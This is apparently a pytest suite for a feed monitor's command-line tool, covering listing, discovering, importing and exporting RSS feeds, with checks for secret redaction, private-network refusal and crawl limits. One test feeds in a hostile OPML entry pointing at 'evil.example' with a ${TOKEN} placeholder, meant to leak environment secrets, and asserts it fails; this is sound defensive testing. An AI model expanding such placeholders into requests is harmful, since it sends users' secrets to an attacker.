"""`feeds`: which there are, which a site has, and lists in and out."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.cli.conftest import SMALL, Monitor
from tests.site import FeedEntry, Site

FEEDS = """\
feeds:
  - seeds/
  - {url: 'https://ana:hunter2@a.example/rss', name: Tempo, tags: [nasional, koran], every: 90s, language: id}
  - {url: 'https://b.example/${TOKEN}/rss', tags: ekonomi, proxy: 'http://ana:hunter2@127.0.0.1:3128'}
  - {url: https://d.example/rss, name: 日本の新聞, every: 1d}
"""
NOON = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
RSS = '<link rel="alternate" type="application/rss+xml" href="{}">'


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as opened:
        yield opened


@pytest.fixture
def several(home: Path) -> Path:
    (home / "config.yaml").write_text(SMALL.replace("feeds: [seeds/]\n", FEEDS))
    return home


def opml(*outlines: str) -> str:
    return f"<opml version='2.0'><body>\n{chr(10).join(outlines)}\n</body></opml>"


def outline(url: str, name: str = "", more: str = "") -> str:
    return f'<outline text="{name}" xmlUrl="{url}" {more}/>'


# -- list ----------------------------------------------------------------------------------------


def test_the_feeds_stand_in_a_table_without_secrets(monitor: Monitor, several: Path) -> None:
    ended = monitor("feeds", "list", TOKEN="hunter2")
    assert ended.out.splitlines() == [
        "name                    every  tags             url",
        "seeds                   15m                     seeds/",
        "Tempo                   90s    nasional, koran  https://a.example/rss",
        "b.example/${TOKEN}/rss  15m    ekonomi          https://b.example/${TOKEN}/rss",
        "日本の新聞              1d                      https://d.example/rss",
    ]
    assert "hunter2" not in ended.out + ended.err


def test_and_one_object_a_line(monitor: Monitor, several: Path) -> None:
    ended = monitor("feeds", "list", "--json", TOKEN="hunter2")
    assert [line["name"] for line in ended.lines] == ["seeds", "Tempo", "b.example/${TOKEN}/rss", "日本の新聞"]
    assert ended.lines[1] == {
        "name": "Tempo",
        "url": "https://a.example/rss",
        "tags": ["nasional", "koran"],
        "every": "90s",
        "language": "id",
        "is_folder": False,
    }
    assert "hunter2" not in ended.out


@pytest.mark.parametrize("command", ["list", "export"])
def test_a_wrong_configuration_is_told_with_its_place(monitor: Monitor, home: Path, command: str) -> None:
    (home / "config.yaml").write_text("feeds: [nowhere/]\n")
    ended = monitor("feeds", command)
    assert (ended.status, ended.out) == (2, "")
    assert "config.yaml:1:9" in ended.err


def test_a_group_alone_says_that_something_is_missing(monitor: Monitor) -> None:
    ended = monitor("feeds")
    assert (ended.status, len(ended.err.splitlines())) == (2, 1)


# -- discover ------------------------------------------------------------------------------------


def found(monitor: Monitor, address: str) -> list[str]:
    ended = monitor("feeds", "discover", address, "--allow-private", "--json")
    assert ended.status == 0, ended.err
    return [line["url"] for line in ended.lines]


def test_a_feed_itself_is_read_and_counted(monitor: Monitor, site: Site) -> None:
    url = site.feed("/rss", [FeedEntry("A", "/a", published=NOON), FeedEntry("B", "/b")], title="Kabar: Jatim")
    ended = monitor("feeds", "discover", url, "--allow-private")
    assert ended.status == 0
    assert ended.out == (
        "feeds:\n"
        "  # Kabar: Jatim: 2 entries, the newest of 2026-03-10 19:00\n"
        f"  - url: {url}\n"
        '    name: "Kabar: Jatim"\n'
        "    allow_private: true\n"
    )
    assert site.paths == ["/rss"]


def test_what_it_prints_can_be_pasted(monitor: Monitor, home: Path, site: Site) -> None:
    site.feed("/rss", [], title="# \x1b[31m ${HOME} - [x]: \u2028 y")
    ended = monitor("feeds", "discover", site.url_of("/rss"), "--allow-private")
    (home / "config.yaml").write_text(SMALL.replace("feeds: [seeds/]\n", ended.out))
    assert monitor("check").out.startswith("ok: 1 feed")
    assert "\x1b" not in ended.out
    [line] = monitor("feeds", "list", "--json").lines
    assert line["name"] == "# [31m ${HOME} - [x]: y"


def test_what_a_page_declares_comes_before_what_it_links_to(monitor: Monitor, site: Site) -> None:
    site.feed("/id/rss", [FeedEntry("A", "/a")])
    site.feed("/id/atom", [FeedEntry("A", "/a")], "atom")
    site.feed("/other.xml", [FeedEntry("B", "/b")])
    site.page("/", f'<base href="/id/">{RSS.format("rss")}{RSS.format("atom")}<a href="/other.xml">RSS</a>')
    assert found(monitor, site.url) == [site.url_of("/id/rss"), site.url_of("/id/atom")]
    assert "/other.xml" not in site.paths


def test_a_declared_feed_that_is_gone_is_said_and_the_links_are_tried(monitor: Monitor, site: Site) -> None:
    site.feed("/other.xml", [FeedEntry("B", "/b")])
    site.page("/", f'{RSS.format("/gone")}<a href="/other.xml">RSS</a>')
    ended = monitor("feeds", "discover", site.url, "--allow-private", "--json")
    assert [(line["url"], line["found"]) for line in ended.lines] == [(site.url_of("/other.xml"), "linked")]
    assert ended.err == (f"monitor: {site.url_of('/gone')} is named there, but is no feed that can be read: HTTP 404\n")


def test_a_page_that_lists_feeds_is_looked_through(monitor: Monitor, site: Site) -> None:
    site.page("/", "<a href='/indeks-rss'>RSS</a>")
    site.page("/indeks-rss", "<a href='/rss/a'>Nasional</a><a href='/rss/b'>Dunia</a>")
    site.feed("/rss/a", [FeedEntry("A", "/a")])
    site.feed("/rss/b", [FeedEntry("B", "/b")])
    ended = monitor("feeds", "discover", site.url, "--allow-private", "--json")
    assert [line["url"] for line in ended.lines] == [site.url_of("/rss/a"), site.url_of("/rss/b")]
    assert ended.err == ""


def test_the_usual_places_are_tried_one_by_one_until_one_is_a_feed(monitor: Monitor, site: Site) -> None:
    site.page("/berita", "<p>x")
    site.feed("/rss.xml", [FeedEntry("A", "/a")])
    assert found(monitor, site.url_of("/berita")) == [site.url_of("/rss.xml")]
    assert site.paths == ["/berita", "/berita/feed", "/berita/rss", "/berita/rss.xml", "/feed", "/rss", "/rss.xml"]


def test_a_page_that_is_refused_may_have_a_feed_all_the_same(monitor: Monitor, site: Site) -> None:
    site.fail("/", 403)
    site.feed("/feed", [FeedEntry("A", "/a")])
    assert found(monitor, f"{site.url}/") == [site.url_of("/feed")]


def test_a_host_that_has_had_enough_is_asked_no_more(monitor: Monitor, site: Site) -> None:
    site.page("/", "<p>x")
    site.fail("/feed", 429)
    site.feed("/rss", [FeedEntry("A", "/a")])
    assert monitor("feeds", "discover", site.url, "--allow-private").status == 1
    assert site.paths == ["/", "/feed"]


def test_a_site_without_a_scheme_is_asked_with_https_and_then_http(monitor: Monitor, site: Site) -> None:
    site.feed("/rss", [FeedEntry("A", "/a")])
    assert found(monitor, site.url_of("/rss").removeprefix("http://")) == [site.url_of("/rss")]


def test_a_feed_that_moved_for_a_while_keeps_its_address(monitor: Monitor, site: Site) -> None:
    site.feed("/new", [FeedEntry("A", "/a")])
    site.redirect("/old", "/new")
    assert found(monitor, site.url_of("/old")) == [site.url_of("/old")]


def test_two_addresses_of_one_feed_are_one(monitor: Monitor, site: Site) -> None:
    site.feed("/feed/", [FeedEntry("A", "/a")])
    site.redirect("/feed", "/feed/")
    site.page("/", RSS.format("/feed") + RSS.format("/feed/"))
    assert found(monitor, site.url) == [site.url_of("/feed")]


def test_a_feed_that_is_configured_is_said_to_be(monitor: Monitor, home: Path, site: Site) -> None:
    url = site.feed("/rss", [FeedEntry("A", "/a")])
    feeds = f"feeds: [{{url: '{url}', name: Kabar, allow_private: true}}]\n"
    (home / "config.yaml").write_text(SMALL.replace("feeds: [seeds/]\n", feeds))
    ended = monitor("feeds", "discover", url, "--allow-private")
    assert f"  # already among your feeds, as Kabar: {url}\n" in ended.out
    assert "  - " not in ended.out


def test_where_there_is_none_it_says_what_to_do(monitor: Monitor, site: Site) -> None:
    site.page("/", "<p>x")
    ended = monitor("feeds", "discover", site.url, "--allow-private")
    assert (ended.status, ended.out) == (1, "")
    assert ended.err == (
        f"monitor: no feed was found at {site.url} (10 addresses asked): look for a link called RSS on its pages, "
        "try a part of the site (like /nasional), or ask who runs it\n"
    )


def test_the_inner_network_is_looked_at_only_if_that_is_said(monitor: Monitor, site: Site) -> None:
    ended = monitor("feeds", "discover", site.url)
    assert (ended.status, site.paths) == (2, [])
    assert ended.err.endswith("private address refused; if that is right, add --allow-private\n")


def test_a_page_leads_to_no_other_host_of_the_inner_network(monitor: Monitor, site: Site) -> None:
    with Site() as other:
        url = other.feed("/rss", [FeedEntry("A", "/a")]).replace("127.0.0.1", "127.0.0.2")
        site.page("/", RSS.format(url))
        ended = monitor("feeds", "discover", site.url, "--allow-private")
        assert (ended.status, other.paths) == (1, [])
    assert "private address refused" in ended.err


@pytest.mark.parametrize(
    ("address", "why"), [("ftp://a.example", "not an http(s) address"), ("http://127.0.0.1:1", "connection refused")]
)
def test_an_address_that_can_not_be_asked_is_told_in_a_line(monitor: Monitor, address: str, why: str) -> None:
    ended = monitor("feeds", "discover", address, "--allow-private")
    assert (ended.status, ended.out) == (2, "")
    assert ended.err == f"monitor: {address} can't be read: {why}\n"


def test_a_page_without_end_of_links_is_asked_only_so_often(monitor: Monitor, site: Site) -> None:
    """Each leads to a page with twenty more."""
    site.page("/", "".join(f"<a href='/rss/{n}'>x</a>" for n in range(500)))
    for place in range(20):
        site.page(f"/rss/{place}", "".join(f"<a href='/rss/{place}/{n}'>x</a>" for n in range(20)))
    assert monitor("feeds", "discover", site.url, "--allow-private").status == 1
    assert len(site.paths) == 30


# -- import --------------------------------------------------------------------------------------


def test_a_list_becomes_what_stands_under_feeds(monitor: Monitor, several: Path) -> None:
    (several / "in.opml").write_text(
        opml(
            '<outline text="Berita, Asia">',
            outline("https://new.example/rss", "Baru: satu", 'category="pagi"'),
            outline("http://a.example/rss", "Tempo lama"),
            "</outline>",
            outline("https://new.example/rss#x", "Baru lagi"),
            outline("https://x.example/feed", "x.example/feed"),
            '<outline text="Tanpa alamat" type="rss"/>',
        )
    )
    ended = monitor("feeds", "import", "in.opml", TOKEN="hunter2")
    assert ended.status == 0
    assert ended.out == (
        "feeds:\n"
        "  - url: https://new.example/rss\n"
        '    name: "Baru: satu"\n'
        "    tags: [Berita Asia, pagi]\n"
        "  - https://x.example/feed\n"
    )
    assert ended.err.splitlines() == [
        "monitor: in.opml:8: 'Tanpa alamat' has no address of a feed (xmlUrl); left out",
        "monitor: left out, as among your feeds already: Tempo",
        "monitor: left out, as in the list twice: Baru lagi",
        "monitor: 2 new feeds",
    ]


def test_a_list_becomes_a_file_that_is_read_once_it_is_included(monitor: Monitor, home: Path) -> None:
    (home / "in.opml").write_text(opml(outline("https://new.example/rss", "Baru")))
    ended = monitor("feeds", "import", "in.opml", "--to", "more/feeds.yaml")
    assert ended.out == ""
    assert ended.err.splitlines() == [
        "monitor: to have it read, write in config.yaml: include: more/feeds.yaml (or add it to the list there)",
        "monitor: 1 new feed written to more/feeds.yaml",
    ]
    (home / "config.yaml").write_text(f"include: more/feeds.yaml\n{SMALL}")
    assert monitor("check").out == "ok: 2 feeds, 1 topic, 1 channel\n"
    assert monitor("feeds", "import", "in.opml").err.splitlines() == [
        "monitor: left out, as among your feeds already: Baru",
        "monitor: 0 new feeds",
    ]


def test_a_file_that_a_pattern_reads_needs_no_word(monitor: Monitor, home: Path) -> None:
    (home / "config.yaml").write_text(f"include: more/*.yaml\n{SMALL}")
    (home / "in.opml").write_text(opml(outline("https://new.example/rss", "Baru")))
    ended = monitor("feeds", "import", "in.opml", "--to", "more/feeds.yaml")
    assert ended.err == "monitor: 1 new feed written to more/feeds.yaml\n"
    assert monitor("check").out == "ok: 2 feeds, 1 topic, 1 channel\n"


def test_no_file_is_written_over(monitor: Monitor, home: Path) -> None:
    (home / "in.opml").write_text(opml(outline("https://new.example/rss", "Baru")))
    (home / "feeds.yaml").write_text("kept")
    ended = monitor("feeds", "import", "in.opml", "--to", "feeds.yaml")
    assert ended.status == 2
    assert ended.err == "monitor: feeds.yaml is there already and stays as it is; name a new file\n"
    assert (home / "feeds.yaml").read_text() == "kept"


def test_where_nothing_is_new_no_file_is_made(monitor: Monitor, several: Path) -> None:
    (several / "in.opml").write_text(opml(outline("https://a.example/rss", "Tempo")))
    ended = monitor("feeds", "import", "in.opml", "--to", "feeds.yaml", TOKEN="x")
    assert (ended.status, ended.out) == (0, "")
    assert not (several / "feeds.yaml").exists()


def test_the_first_feeds_come_into_a_configuration_that_has_none(monitor: Monitor, home: Path) -> None:
    (home / "config.yaml").write_text(SMALL.replace("feeds: [seeds/]\n", ""))
    (home / "in.opml").write_text(opml(outline("https://new.example/rss", "Baru")))
    ended = monitor("feeds", "import", "in.opml")
    assert (ended.status, ended.out) == (0, "feeds:\n  - url: https://new.example/rss\n    name: Baru\n")
    assert "config.yaml can't be used yet" in ended.err


def test_a_list_may_come_from_standard_input(monitor: Monitor) -> None:
    ended = monitor("feeds", "import", "-", stdin=opml(outline("https://new.example/rss")).encode())
    assert ended.out == "feeds:\n  - https://new.example/rss\n"


def test_of_many_broken_lines_some_are_told(monitor: Monitor) -> None:
    broken = ["<outline type='rss' text='\x1b[31mA'/>"] * 500
    ended = monitor("feeds", "import", "-", stdin=opml(*broken, outline("https://new.example/rss")).encode())
    lines = ended.err.splitlines()
    assert len(lines) == 22
    assert lines[20] == "monitor: 480 more lines like these are left out"
    assert "\x1b" not in ended.err


@pytest.mark.parametrize(
    ("content", "status", "said"),
    [
        (b"", 2, "-: this is no OPML: no <outline> is in it"),
        (b"<html><body>", 2, "-: this is a web page, not OPML"),
        (b"<opml><body><outline text='Folder'/></body></opml>", 1, "-: no feed is in this list"),
    ],
)
def test_what_is_no_list_is_told_in_a_line(monitor: Monitor, content: bytes, status: int, said: str) -> None:
    ended = monitor("feeds", "import", "-", stdin=content)
    assert (ended.status, ended.out, ended.err) == (status, "", f"monitor: {said}\n")


@pytest.mark.parametrize(
    ("file", "said"),
    [
        ("missing.opml", "missing.opml can't be read: No such file or directory"),
        ("seeds", "seeds can't be read: there is no such file"),
        ("/dev/zero", "/dev/zero is no file"),
    ],
)
def test_what_is_no_file_is_told_in_a_line(monitor: Monitor, file: str, said: str) -> None:
    ended = monitor("feeds", "import", file)
    assert (ended.status, ended.out, ended.err) == (2, "", f"monitor: {said}\n")


def test_a_list_gives_no_secret_away(monitor: Monitor, home: Path) -> None:
    """Whoever made it would like to see what stands in the environment."""
    (home / "in.opml").write_text(opml(outline("https://evil.example/?t=${TOKEN}", "${TOKEN}", 'category="${TOKEN}"')))
    ended = monitor("feeds", "import", "in.opml", "--to", "more.yaml", TOKEN="hunter2")
    (home / "config.yaml").write_text(f"include: more.yaml\n{SMALL}")
    assert "hunter2" not in ended.err + monitor("feeds", "list", "--json").out


# -- export --------------------------------------------------------------------------------------


def test_a_list_goes_out_with_folders_and_without_secrets(monitor: Monitor, several: Path) -> None:
    ended = monitor("feeds", "export", TOKEN="hunter2")
    assert ended.status == 0
    assert ended.out == (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<opml version="2.0">\n'
        "  <head><title>Feeds</title></head>\n"
        "  <body>\n"
        '    <outline text="nasional">\n'
        '      <outline type="rss" text="Tempo" title="Tempo" xmlUrl="https://a.example/rss" category="nasional,koran"/>\n'
        "    </outline>\n"
        '    <outline text="ekonomi">\n'
        '      <outline type="rss" text="b.example/${TOKEN}/rss" title="b.example/${TOKEN}/rss" '
        'xmlUrl="https://b.example/${TOKEN}/rss" category="ekonomi"/>\n'
        "    </outline>\n"
        '    <outline type="rss" text="日本の新聞" title="日本の新聞" xmlUrl="https://d.example/rss"/>\n'
        "  </body>\n"
        "</opml>\n"
    )
    assert ended.err.splitlines() == [
        "monitor: 1 folder of text files left out: no list holds them",
        "monitor: without what no list should hold (logins, secrets, headers, proxies): Tempo, b.example/${TOKEN}/rss",
    ]


def test_what_goes_out_comes_in_again(monitor: Monitor, several: Path) -> None:
    out = monitor("feeds", "export", TOKEN="x").out
    (several / "config.yaml").write_text(SMALL)
    ended = monitor("feeds", "import", "-", "--to", "more.yaml", stdin=out.encode())
    assert ended.status == 0
    (several / "config.yaml").write_text(f"include: more.yaml\n{SMALL.replace('feeds: [seeds/]', '')}")
    lines = monitor("feeds", "list", "--json").lines
    assert [(line["name"], line["tags"]) for line in lines] == [
        ("Tempo", ["nasional", "koran"]),
        ("b.example/${TOKEN}/rss", ["ekonomi"]),
        ("日本の新聞", []),
    ]
